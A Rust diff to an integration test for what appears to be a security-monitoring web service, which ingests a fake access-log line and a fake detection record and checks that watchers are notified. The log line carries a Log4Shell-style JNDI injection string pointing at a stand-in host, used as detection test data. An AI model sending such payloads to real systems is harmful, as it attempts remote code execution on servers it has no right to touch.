@@ -2,6 +2,9 @@
 
 use std::thread;
 
+use relight_engine::SIGNS;
+use relight_engine::watch::Feed;
+
 use crate::door_support::{START, World, clock, person};
 use crate::web_acts::{behind_an_edge, decide, open_incident, propose};
 use crate::web_console::follow;
@@ -79,6 +82,20 @@ fn a_page_that_is_old_is_told_so() {
     let after = PAGES.map(pages);
     assert_eq!(before[4], after[4], "nobody tried a door");
     agree();
+    // A campaign is news of the watch, and so are signs that it succeeded.
+    let line = "192.0.2.7 - - [10/Dec/2021:12:00:00 +0000] \"GET /?q=${jndi:ldap://x1.test/a} \
+                HTTP/1.1\" 404 12 \"-\" \"-\"\n";
+    let site = world.store.sites().unwrap().into_iter().find(|it| it.slug.as_str() == "care");
+    let site = site.unwrap();
+    let feed = Feed { org: site.org, site: Some(site.id), ..Feed::default() };
+    let watching = told(&world, &zoe, after[4].clone(), false);
+    world.engine.ingest_log(&feed, std::io::Cursor::new(line)).unwrap();
+    drop(watching.join().unwrap());
+    let campaign = pages(PAGES[4]);
+    let watching = told(&world, &zoe, campaign, false);
+    let sign = "2021-12-10T12:00:05Z,care,name-query,x1.test\n";
+    std::fs::write(world.store.path().with_file_name(SIGNS), sign).unwrap();
+    drop(watching.join().unwrap());
     world.web.stop();
 }
 
